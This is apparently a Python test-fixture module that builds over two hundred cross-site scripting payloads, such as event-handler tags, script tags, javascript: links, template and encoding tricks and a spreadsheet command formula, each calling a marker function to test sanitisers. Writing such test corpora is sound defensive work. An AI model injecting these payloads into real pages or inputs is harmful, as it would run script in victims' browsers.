"""Text that becomes script where somebody takes it for markup: over two hundred, each calls `hit` with its number.

Every element of theirs has the class `pwned`, so that one that got into a page is found even where it could not run.
"""

from __future__ import annotations

import base64
import itertools

_CALLS = ("hit({n})", "window['hit']({n})", "top.hit({n})", "setTimeout(()=>hit({n}))", "hit`{n}`")
_HANDLERS = (
    '<img class=pwned src=x onerror="{call}">',
    "<img class=pwned src=x: onerror='{call}'>",
    "<IMG CLASS=pwned SRC=x OnErRoR={call}>",
    '<svg class=pwned onload="{call}">',
    "<svg class=pwned/onload={call}>",
    '<svg><g class=pwned /><animate class=pwned onbegin="{call}" attributeName=x dur=1s>',
    '<svg><set class=pwned onbegin="{call}" attributename=x>',
    '<body class=pwned onload="{call}">',
    '<details class=pwned open ontoggle="{call}">',
    '<input class=pwned autofocus onfocus="{call}">',
    '<video class=pwned><source class=pwned onerror="{call}"></video>',
    '<video class=pwned src=x onerror="{call}"></video>',
    '<audio class=pwned src=x onerror="{call}"></audio>',
    '<iframe class=pwned onload="{call}"></iframe>',
    '<iframe class=pwned src="javascript:parent.{call}"></iframe>',
    '<iframe class=pwned srcdoc="<script>parent.{call}</script>"></iframe>',
    '<object class=pwned data=x onerror="{call}"></object>',
    '<embed class=pwned src="javascript:{call}">',
    '<link class=pwned rel=stylesheet href=x onerror="{call}">',
    '<style class=pwned onload="{call}"></style>',
    '<marquee class=pwned onstart="{call}">x</marquee>',
    '<div class=pwned style="animation:x 1s" onanimationstart="{call}">x</div><style>@keyframes x{{}}</style>',
    '<a class=pwned href="javascript:{call}" autofocus onfocus="{call}">x</a>',
    '<form class=pwned><button class=pwned formaction="javascript:{call}" autofocus onfocus="{call}">x</button></form>',
    '<math><mtext><table><mglyph><style><img class=pwned src=x onerror="{call}">',
    '<noscript><p title="</noscript><img class=pwned src=x onerror={call}>">',
    "<template><img class=pwned></template><img class=pwned src=x onerror='{call}'>",
    '<select class=pwned autofocus onfocus="{call}"></select>',
    '<textarea class=pwned autofocus onfocus="{call}"></textarea>',
    "<x-pwned class=pwned tabindex=1 autofocus onfocus='{call}'>x</x-pwned>",
)
_SCRIPTS = (
    "<script class=pwned>{call}</script>",
    "<SCRIPT CLASS=pwned>{call}</SCRIPT>",
    '<script class=pwned src="data:text/javascript,{call}"></script>',
    "<script class=pwned type=module>{call}</script>",
    "<script class=pwned>/*\n*/{call}//</script>",
)
_BEFORE = ('"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</pre></code>", "`", "${{")
_PLAIN = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    " javascript:{call}",
    "java\tscript:{call}",
    "data:text/html,<script class=pwned>{call}</script>",
    "[x](javascript:{call})",
    "![x](javascript:{call})",
    "[x](data:text/html;base64,{coded})",
    "<javascript:{call}>",
    "[a]: javascript:{call}\n[a]",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}",
    "#{{{call}}}",
    "';{call};'",
    '";{call};"',
    "\\u003cimg class=pwned src=x onerror={call}\\u003e",
    "&lt;img class=pwned src=x onerror={call}&gt;",
    "%3Cimg class=pwned src=x onerror={call}%3E",
    "\u001b]8;;javascript:{call}\u0007click\u001b]8;;\u0007",
    "\u001b[31m<img class=pwned src=x onerror={call}>\u001b[0m",
    "\u202e<img class=pwned src=x onerror={call}>\u202c",
    "=cmd|'/c calc'!A1<img class=pwned src=x onerror={call}>",
    "__proto__<img class=pwned src=x onerror={call}>",
)


def payloads(least: int = 200) -> list[str]:
    """Return them; the number that a payload calls `hit` with is its place in the list."""
    shapes = [*_HANDLERS, *_SCRIPTS, *_PLAIN]
    shapes += [before + shape for before, shape in itertools.product(_BEFORE, (*_HANDLERS[:8], *_SCRIPTS[:2]))]
    calls = itertools.cycle(_CALLS)
    made = []
    for shape in [*shapes, *_HANDLERS, *_SCRIPTS]:
        call = next(calls).format(n=len(made))
        coded = base64.b64encode(f"<script>{call}</script>".encode()).decode()
        made.append(shape.format(call=call, coded=coded))
    assert len(made) >= least and len(set(made)) == len(made)
    return made
